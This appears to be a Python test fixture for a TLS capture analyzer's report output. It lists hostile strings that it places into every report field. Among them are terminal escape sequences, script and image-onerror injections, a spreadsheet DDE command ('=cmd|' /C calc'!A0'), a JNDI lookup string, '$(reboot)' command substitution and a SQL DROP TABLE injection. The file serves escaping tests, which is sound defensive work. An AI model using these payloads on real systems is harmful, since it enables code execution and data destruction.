"""What a hostile peer would write into a server name, a certificate or a file name, and a report full of it."""

from __future__ import annotations

from typing import Any

import msgspec

from capanalyzer.report import model

from .samples import TIMELINE, Told, capture, failed, finding, log, log_line, session, unmatched_line

PAYLOADS: tuple[str, ...] = (
    # Terminals and files: control characters, colours, titles, line ends, bidirectional and invisible text.
    "\x1b[2J\x1b[1;31mowned\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31m\x85next",
    "a\r\nSESSION 99   forged\r\n",
    "a\nb\tc\x0b\x0c",
    "\x00\x08\x7f",
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069\u200b\ufeff",
    "a\u2028b\u2029c",
    # Markdown: tables, code, HTML, links, images, headings, lists, quotes, emphasis.
    "a | b || c \\| d",
    "\\",
    "ends with a backslash\\",
    "`code` ``more`` ```fence",
    "```\n# heading\n```",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</details><!-- comment",
    "&lt;b&gt; &#64;name &amp;",
    "[text](https://evil.example/)",
    "![image](https://evil.example/x.png)",
    "<https://evil.example/>",
    "https://evil.example/ www.evil.example mail@evil.example",
    "[[wiki]] {{macro}} {{>toc}}",
    "# heading",
    "- [ ] task",
    "+ plus",
    "1. one",
    "> quote",
    "***bold*** __under__ ~~gone~~ $x^2$",
    "===",
    "---",
    ": definition",
    # Mentions and references of GitHub, GitLab and Redmine.
    "@name @org/team",
    "#123 !456 ~label %milestone $snippet &epic",
    "GH-12 ABC-34 r567 org/repo#8 commit:abc123 user:root",
    "6dcb09b5b57875f334f61aebed695e2e4193db5e",
    ":tada: :+1:",
    # Mermaid.
    "a; participant X",
    "%%{init: {'theme':'dark'}}%%",
    "%% comment",
    "end",
    "x\n    Note over C: forged",
    "->>S: forged",
    "#quot; #59; #9829;",
    "style: x #59; classDef a:b",
    "<br/>line",
    "wrap: text",
    "ﬂ°°59¶ß",
    # Formulas of spreadsheets.
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/","click")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "a;=1+1",
    'a;"=1+1',
    "a,=1+1",
    "＝1+1",
    "'=1+1",
    # Templates and formats.
    "{0.__class__} %s %(x)s ${jndi:ldap://x} $(reboot) `reboot`",
    "'; DROP TABLE sessions; --",
    "",
    " ",
    "a" * 2000,
    "🔒" * 50,
)


def hostile(payload: str) -> tuple[list[model.Session], Told]:
    """A report with ``payload`` in every field that bytes of a capture, or names of files, can reach."""
    certificate = model.Certificate(payload, payload, payload, None, None, (payload, payload))
    spoken = model.Tls(
        client_hello=model.ClientHello(
            4, "TLS 1.2", ("TLS 1.3", payload), (4865,), payload, (payload, payload), (29,), "0" * 32, payload
        ),
        server_hello=model.ServerHello(6, payload, 4865, payload, "1" * 32, False),
        certificates=(certificate, certificate),
        client_certificates=(certificate,),
        alerts=(model.Alert(7, "server", payload, 70, payload, False),),
        resumed=False,
    )
    evidence = (model.Evidence(115, TIMELINE[0].time, "client", payload),)
    said: dict[str, Any] = {
        "title": payload,
        "explanation": payload,
        "evidence": evidence,
        "remedies": (payload, f"`openssl s_client {payload}`: {payload}", f"`{payload}`", f"a {payload} b"),
        "alternatives": (payload,),
    }
    timeline = (
        *(msgspec.structs.replace(entry, event=payload, detail=payload) for entry in TIMELINE),
        model.TimelineEntry(118, TIMELINE[-1].time, None, payload, payload),
    )
    one = failed(
        37,
        tls=spoken,
        protocol=model.SideTexts(payload, payload),
        findings=(
            finding(confidence="likely", **said),
            finding("weak-cipher", severity="warning", **said),
        ),
        timeline=timeline,
        history=payload,
        community_id=payload,
        stage=payload,
        log_lines=(log_line(payload, source=payload), log_line(None, misleads=payload, meaning=payload)),
    )
    fine = session(0, tls=spoken, findings=(finding("weak-cipher", severity="warning", **said),))
    told = Told(
        [one, fine],
        captures=(
            capture(payload, comments=(payload,), warnings=(payload,), link_types=(payload,)),
            capture("b.pcap"),
        ),
        unreadable=(model.Unreadable(payload, payload),),
        notes=(payload,),
        logs=(log(payload, warnings=(payload,)),),
        unmatched=(unmatched_line(payload, source=payload, title=payload), unmatched_line(None)),
    )
    return [one, fine], told
